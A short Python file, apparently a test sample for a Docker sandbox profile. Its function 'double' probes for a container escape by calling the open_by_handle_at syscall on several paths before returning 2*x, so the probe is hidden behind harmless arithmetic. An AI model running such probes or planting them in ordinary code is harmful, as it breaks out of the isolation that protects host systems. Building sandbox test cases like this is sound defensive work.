"""Opens files by numbers instead of names, by which containers have been left before.

Stopped by: sandbox/docker/profile.py (reaching)
"""

import ctypes
import os
import struct

OPEN_BY_HANDLE = {"x86_64": 304, "aarch64": 265}[os.uname().machine]
libc = ctypes.CDLL(None)


def double(x):
    handle = ctypes.create_string_buffer(struct.pack("=IiII", 8, 1, 2, 0), 32)
    for path in ("/", "/etc/hostname", "/opt/weakspot"):
        mount = os.open(path, os.O_RDONLY)
        if libc.syscall(OPEN_BY_HANDLE, mount, handle, os.O_RDONLY) >= 0:
            return path
        os.close(mount)
    return 2 * x
